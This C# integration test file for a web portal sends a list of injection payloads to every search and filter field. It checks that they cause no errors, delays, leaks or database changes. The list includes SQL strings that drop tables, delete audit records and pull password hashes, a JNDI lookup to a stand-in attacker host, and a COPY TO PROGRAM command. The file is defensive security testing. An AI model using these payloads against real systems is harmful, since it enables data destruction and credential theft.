using System.Diagnostics;
using System.Net;
using AngleSharp.Dom;
using AngleSharp.Html.Dom;
using VendorGov.IntegrationTests.Hosting;
using VendorGov.IntegrationTests.Issues;
using Xunit;
using Xunit.Abstractions;

namespace VendorGov.IntegrationTests.Walls;

/// <summary>
/// SQL in every filter of every list (ASVS 1.2.4): taken as the letters that it is. It finds nothing, breaks nothing, waits for nothing and changes nothing.
/// </summary>
public sealed class InjectionTests(Portal portal, ITestOutputHelper output) : IClassFixture<Portal>
{
    private static readonly TimeSpan Patience = TimeSpan.FromSeconds(4);

    private static readonly string[] Payloads =
    [
        "' OR '1'='1", "' OR 1=1 --", "\" OR \"\"=\"", "') OR ('1'='1", "'; DROP TABLE \"Issues\"; --", "'; DELETE FROM \"AuditEntries\"; --", "1; SELECT pg_sleep(5)", "'||pg_sleep(5)||'",
        "' UNION SELECT \"PasswordHash\" FROM \"AspNetUsers\" --", "'; WAITFOR DELAY '0:0:5' --", "x' AND randomblob(500000000) --", "* OR NOT x", "\"unclosed", "NEAR(a b, 9)", "a:b OR Title:*",
        "(((((", "x%' ESCAPE '%", "\\' OR 1=1", "[a-z]%", "${jndi:ldap://evil.example/a}", "{{7*7}}", "';COPY t TO PROGRAM 'id';--", "' || (SELECT 1/0) || '",
    ];

    [Fact]
    public async Task Statements_in_filters_and_searches_are_words_like_others()
    {
        using var outlet = await portal.OutletAsync();
        await outlet.FileAsync("可查到的问题");
        using var visitor = await portal.HeadquartersAsync();
        var before = DatabaseContent.Hash(await portal.ContentAsync());
        var (asked, wrong, longest) = (0, new List<string>(), TimeSpan.Zero);
        foreach (var (path, field) in await FieldsAsync(visitor))
        {
            foreach (var payload in Payloads)
            {
                var watch = Stopwatch.StartNew();
                var screen = await visitor.GetAsync($"{path}?{field}={Uri.EscapeDataString(payload)}");
                (asked, longest) = (asked + 1, watch.Elapsed > longest ? watch.Elapsed : longest);
                if ((int)screen.Status >= 500 || watch.Elapsed > Patience)
                {
                    wrong.Add($"{path}?{field}={payload}: {(int)screen.Status} after {watch.Elapsed.TotalSeconds:0.0} s");
                }

                if (screen.Text.Contains("AQAAAAI", StringComparison.Ordinal) || screen.Text.Contains("syntax error", StringComparison.OrdinalIgnoreCase))
                {
                    wrong.Add($"{path}?{field}={payload}: tells what it should not");
                }
            }
        }

        output.WriteLine($"{asked} requests, the longest took {longest.TotalMilliseconds:0} ms.");
        Assert.Empty(wrong);
        Assert.True(asked > 500, $"Only {asked} requests.");
        Assert.Equal(before, DatabaseContent.Hash(await portal.ContentAsync()));
    }

    [Theory]
    [InlineData("/Issues", "q", "#issues tbody tr")]
    [InlineData("/Search", "q", "main .hit, main li a, main tbody tr")]
    [InlineData("/Network/Users", "Q", "main tbody tr")]
    [InlineData("/Network", "Q", "main tbody tr")]
    public async Task What_is_always_true_finds_nothing(string path, string field, string rows)
    {
        using var visitor = await portal.HeadquartersAsync();
        foreach (var payload in new[] { "' OR '1'='1", "') OR 1=1 --", "%' OR '%'='", "\" OR \"a\"=\"a" })
        {
            var nonsense = await visitor.GetAsync($"{path}?{field}=qqqzzzxxx");
            var screen = await visitor.GetAsync($"{path}?{field}={Uri.EscapeDataString(payload)}");
            Assert.Equal(HttpStatusCode.OK, screen.Status);
            Assert.Equal(nonsense.Document.QuerySelectorAll(rows).Length, screen.Document.QuerySelectorAll(rows).Length);
        }
    }

    /// <summary>Each field of a search or filter form on a page that headquarters are shown, and what sorts and pages.</summary>
    private static async Task<List<(string Path, string Field)>> FieldsAsync(Visitor visitor)
    {
        var (queue, seen, fields) = (new Queue<string>(["/"]), new HashSet<string>(), new HashSet<(string, string)>());
        while (queue.TryDequeue(out var path) && seen.Count < 120)
        {
            var screen = await visitor.GetAsync(path);
            foreach (var form in screen.Document.QuerySelectorAll<IHtmlFormElement>("form[method=get]"))
            {
                var action = form.GetAttribute("action") is { Length: > 0 } stated ? stated.Split('?')[0] : screen.Path;
                fields.UnionWith(form.QuerySelectorAll("[name]").Select(e => (action, e.GetAttribute("name")!)));
                fields.Add((action, "sort"));
            }

            foreach (var link in screen.Links.Where(l => !l.Contains("handler=", StringComparison.Ordinal) && seen.Add(FormWalk.ShapeOf(l))))
            {
                queue.Enqueue(link);
            }
        }

        return [.. fields];
    }
}
